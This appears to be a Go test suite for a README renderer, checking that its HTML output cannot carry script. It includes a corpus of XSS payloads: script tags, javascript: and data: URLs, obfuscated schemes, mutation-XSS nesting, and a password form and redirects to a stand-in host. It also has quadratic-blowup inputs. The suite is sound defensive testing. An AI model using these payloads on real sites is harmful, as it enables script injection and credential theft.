package readme

import (
	"errors"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// forbidden are the elements a README must never produce.
var forbidden = map[string]bool{"script": true, "style": true, "iframe": true, "object": true, "embed": true,
	"form": true, "img": true, "svg": true, "math": true, "link": true, "meta": true, "base": true, "frame": true,
	"textarea": true, "button": true, "select": true, "noscript": true, "template": true, "title": true}

// checkSafe fails unless out, tokenized as a browser would, has no
// forbidden element, no event handler, style, srcdoc or name attribute,
// no URL other than http, https, mailto or a README fragment, and no id
// without the prefix. Raw "<script" must not appear even as text.
func checkSafe(t *testing.T, in string, out string) {
	t.Helper()
	if strings.Contains(strings.ToLower(out), "<script") {
		t.Errorf("Render(%q) = %q: contains <script", in, out)
	}
	z := html.NewTokenizer(strings.NewReader(out))
	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if forbidden[tok.Data] {
			t.Errorf("Render(%q) = %q: contains <%s>", in, out, tok.Data)
		}
		for _, a := range tok.Attr {
			if err := checkAttr(a); err != "" {
				t.Errorf("Render(%q) = %q: <%s %s=%q>: %s", in, out, tok.Data, a.Key, a.Val, err)
			}
		}
	}
}

func checkAttr(a html.Attribute) string {
	k := strings.ToLower(a.Key)
	v := strings.ToLower(strings.TrimSpace(a.Val))
	switch {
	case strings.HasPrefix(k, "on") || k == "style" || k == "srcdoc" || k == "name" || k == "formaction" || k == "action":
		return "forbidden attribute"
	case k == "id" && !strings.HasPrefix(a.Val, idPrefix):
		return "id without prefix"
	case k == "href" || k == "src" || k == "cite" || k == "background" || k == "poster":
		for _, ok := range []string{"http://", "https://", "mailto:", "#" + idPrefix} {
			if strings.HasPrefix(v, ok) {
				return ""
			}
		}
		return "unsafe URL"
	}
	return ""
}

// xss is a corpus of attempts through Markdown and raw HTML.
var xss = []string{
	`<script>document.title="pwned"</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror="document.title='pwned'">`,
	`<img src="javascript:alert(1)">`,
	`<svg onload=alert(1)><circle r=1></svg>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="  javascript:alert(1)">click</a>`,
	`<a href="java&#x09;script:alert(1)">click</a>`,
	`<a href="&#106;avascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`[click](javascript:alert(1))`,
	`[click](<javascript:alert(1)>)`,
	`[click](data:text/html,<script>alert(1)</script>)`,
	"[ref]\n\n[ref]: javascript:alert(1)",
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<form action="https://evil.example/"><input name=password><button>go</button></form>`,
	`<div style="position:fixed;inset:0;background:url(x)">overlay</div>`,
	`<style>body{display:none}</style>`,
	`<p onclick="alert(1)" onmouseover=alert(1)>hover</p>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a id="login-form" name="config" href="#x">clobber</a>`,
	`<form id="csrf"></form><input id="csrf_token" value="x">`,
	`<details open ontoggle=alert(1)><summary>s</summary></details>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<title><script>alert(1)</script></title>`,
	"```html\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	`<a href="https://ok.example/" target=_blank onfocus=alert(1) autofocus>ok</a>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<blockquote cite="javascript:alert(1)">q</blockquote>`,
	`<x onclick=alert(1)>custom</x>`,
	"<img\nsrc=x\nonerror=alert(1)>",
	`<<script>script>alert(1)<</script>/script>`,
	`<!--<img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
}

func TestRenderXSS(t *testing.T) {
	for _, in := range xss {
		for _, base := range []string{"", "https://code.example/owner/repo/blob/main/"} {
			out, err := Render([]byte(in), base)
			if err != nil {
				t.Errorf("Render(%q) error: %v", in, err)
				continue
			}
			checkSafe(t, in, string(out))
		}
	}
}

func TestRender(t *testing.T) {
	const base = "https://code.example/o/r/blob/main/"
	tests := []struct {
		name, in, base string
		want           []string // substrings of the output
		not            []string // must not appear
	}{
		{name: "heading id prefixed", in: "# Hello World", want: []string{`<h1 id="user-content-hello-world">Hello World</h1>`}},
		{name: "fragment link follows prefix", in: "[see](#usage)", want: []string{`href="#user-content-usage"`}},
		{name: "raw id prefixed", in: `<div id="main">x</div>`, want: []string{`<div id="user-content-main">x</div>`}},
		{name: "absolute link kept with rel", in: "[a](https://x.example/p?q=1)",
			want: []string{`href="https://x.example/p?q=1"`, `rel="nofollow noreferrer"`}},
		{name: "relative link dropped without base", in: "[doc](docs/a.md)", want: []string{"doc"}, not: []string{"href"}},
		{name: "relative raw link dropped without base", in: `<a href="/-/account">acc</a>`, want: []string{"acc"}, not: []string{"href"}},
		{name: "relative link resolved with base", in: "[doc](docs/a.md)", base: base,
			want: []string{`href="https://code.example/o/r/blob/main/docs/a.md"`}},
		{name: "scheme-relative link dropped without base", in: `<a href="//evil.example/x">x</a>`, want: []string{"x"}, not: []string{`href`}},
		{name: "scheme-relative link with base", in: `<a href="//other.example/x">x</a>`, base: base, want: []string{`href="https://other.example/x"`}},
		{name: "nesting within limit", in: strings.Repeat("> ", MaxNesting) + "deep", want: []string{strings.Repeat("<blockquote>\n", MaxNesting) + "<p>deep</p>"}},
		{name: "nesting over limit", in: strings.Repeat(">", MaxNesting+3) + "deep",
			want: []string{strings.Repeat("<blockquote>\n", MaxNesting) + "<p>&gt;&gt;&gt;deep</p>"}, not: []string{strings.Repeat("<blockquote>\n", MaxNesting+1)}},
		{name: "mailto kept", in: "<mailto:a@b.example>", want: []string{`href="mailto:a@b.example"`}},
		{name: "remote image becomes link", in: "![the logo](https://img.example/logo.png)",
			want: []string{`<a href="https://img.example/logo.png"`, `the logo</a>`}, not: []string{"<img"}},
		{name: "badge inside link becomes text", in: "[![build](https://ci.example/b.svg)](https://ci.example/)",
			want: []string{`<a href="https://ci.example/" rel="nofollow noreferrer">build</a>`}, not: []string{"<img", "b.svg"}},
		{name: "relative image without base is text", in: "![diagram](img/d.png)", want: []string{"diagram"}, not: []string{"<img", "href"}},
		{name: "data image is text", in: "![px](data:image/png;base64,AAAA)", want: []string{"px"}, not: []string{"data:", "<img"}},
		{name: "table", in: "| a | b |\n|---|---|\n| 1 | 2 |", want: []string{"<table>", "<td>1</td>"}},
		{name: "strikethrough", in: "~~old~~", want: []string{"<del>old</del>"}},
		{name: "autolink", in: "see https://x.example/", want: []string{`<a href="https://x.example/"`}},
		{name: "task list", in: "- [x] done\n- [ ] todo", want: []string{`type="checkbox"`, `disabled`, `checked`}},
		{name: "code language", in: "```go\nfunc main() {}\n```", want: []string{`<code class="language-go">func main() {}`}},
		{name: "code escaped", in: "```\n<b>&amp;\n```", want: []string{"&lt;b&gt;&amp;amp;"}},
		{name: "details kept", in: "<details><summary>More</summary>text</details>", want: []string{"<details>", "<summary>More</summary>"}},
		{name: "bad code class dropped", in: `<code class="x onclick">c</code>`, want: []string{"<code>c</code>"}},
		{name: "invalid utf8", in: "caf\xe9", want: []string{"caf\uFFFD"}},
		{name: "bad base ignored", in: "[doc](a.md)", base: "javascript:alert(1)//", not: []string{"href"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := Render([]byte(tt.in), tt.base)
			if err != nil {
				t.Fatalf("Render(%q) error: %v", tt.in, err)
			}
			checkSafe(t, tt.in, string(out))
			for _, w := range tt.want {
				if !strings.Contains(string(out), w) {
					t.Errorf("Render(%q) = %q, want it to contain %q", tt.in, out, w)
				}
			}
			for _, n := range tt.not {
				if strings.Contains(string(out), n) {
					t.Errorf("Render(%q) = %q, want no %q", tt.in, out, n)
				}
			}
		})
	}
}

func TestRenderText(t *testing.T) {
	out, err := RenderText([]byte("Title\n=====\n\n.. raw:: html\n\n   <script>alert(1)</script>\n"))
	if err != nil {
		t.Fatal(err)
	}
	want := `<pre class="readme-text">Title` + "\n=====\n\n.. raw:: html\n\n   &lt;script&gt;alert(1)&lt;/script&gt;\n</pre>"
	if string(out) != want {
		t.Errorf("RenderText = %q, want %q", out, want)
	}
}

func TestLimits(t *testing.T) {
	big := make([]byte, MaxSource+1)
	for i := range big {
		big[i] = 'a'
	}
	if _, err := Render(big, ""); !errors.Is(err, ErrTooLarge) {
		t.Errorf("Render(%d bytes) error = %v, want ErrTooLarge", len(big), err)
	}
	if _, err := RenderText(big); !errors.Is(err, ErrTooLarge) {
		t.Errorf("RenderText(%d bytes) error = %v, want ErrTooLarge", len(big), err)
	}
	// Within the input limit, but expanding past the output limit: each
	// "&" becomes "&amp;", each line a paragraph "<p>&amp;</p>\n".
	blowup := []byte(strings.Repeat("&\n\n", MaxSource/3))
	if _, err := Render(blowup, ""); !errors.Is(err, ErrTooLarge) {
		t.Errorf("Render(%d bytes of paragraphs) error = %v, want ErrTooLarge", len(blowup), err)
	}
	if _, err := Render(big[:MaxSource], ""); err != nil {
		t.Errorf("Render(%d bytes) error = %v, want none", MaxSource, err)
	}
}

func TestFormatOf(t *testing.T) {
	tests := []struct {
		ct, file string
		want     Format
	}{
		{"text/markdown", "", Markdown},
		{"text/markdown; charset=UTF-8; variant=GFM", "", Markdown},
		{"Text/Markdown", "", Markdown},
		{"text/x-rst", "README.md", Plain},
		{"text/plain", "", Plain},
		{"", "README.md", Markdown},
		{"", "readme.markdown", Markdown},
		{"", "README", Plain},
		{"", "README.rst", Plain},
		{"", "", Plain},
	}
	for _, tt := range tests {
		if got := FormatOf(tt.ct, tt.file); got != tt.want {
			t.Errorf("FormatOf(%q, %q) = %v, want %v", tt.ct, tt.file, got, tt.want)
		}
	}
}

// pathological inputs: deep nesting and long delimiter runs, each at the
// input limit.
func pathological() map[string][]byte {
	n := MaxSource / 2
	return map[string][]byte{
		"nested blockquotes": []byte(strings.Repeat(">", MaxSource-1) + "x"),
		"spaced blockquotes": []byte(strings.Repeat("> ", n)),
		"lists in quotes":    []byte(strings.Repeat("- > ", n/2)),
		"ordered lists":      []byte(strings.Repeat("1. ", MaxSource/3)),
		"deep lines":         []byte(strings.Repeat(strings.Repeat(">", 200)+"a\n", MaxSource/202)),
		"nested lists":       []byte(strings.Repeat("- ", n)),
		"emphasis run":       []byte(strings.Repeat("*a", n)),
		"mixed emphasis":     []byte(strings.Repeat("*_", n)),
		"open brackets":      []byte(strings.Repeat("[", MaxSource)),
		"link refs":          []byte(strings.Repeat("[a](", n/2) + strings.Repeat(")", n/2)),
		"nested raw html":    []byte(strings.Repeat("<div>", MaxSource/5)),
		"backticks":          []byte(strings.Repeat("`", n) + "a" + strings.Repeat("``", n/2-1)),
		"table columns":      []byte(strings.Repeat("|a", n/2) + "\n" + strings.Repeat("|-", n/2) + "\n"),
	}
}

// TestPathological renders inputs at the size limit that are known to
// make Markdown renderers quadratic. It is not a timing claim (see
// BenchmarkPathological): it checks that each finishes and stays safe.
func TestPathological(t *testing.T) {
	for name, in := range pathological() {
		t.Run(name, func(t *testing.T) {
			out, err := Render(in, "")
			if err != nil && !errors.Is(err, ErrTooLarge) {
				t.Fatalf("Render error: %v", err)
			}
			checkSafe(t, name, string(out))
		})
	}
}

func BenchmarkPathological(b *testing.B) {
	for name, in := range pathological() {
		b.Run(strings.ReplaceAll(name, " ", "_"), func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			for b.Loop() {
				Render(in, "")
			}
		})
	}
}

func FuzzRender(f *testing.F) {
	for _, s := range xss {
		f.Add(s, "")
	}
	f.Add("# t\n\n[a](b) ![c](d)\n\n<div id=x>y</div>", "https://code.example/o/r/")
	f.Fuzz(func(t *testing.T, in, base string) {
		out, err := Render([]byte(in), base)
		if err != nil {
			if !errors.Is(err, ErrTooLarge) {
				t.Fatalf("Render(%q, %q) error: %v", in, base, err)
			}
			return
		}
		checkSafe(t, in, string(out))
	})
}
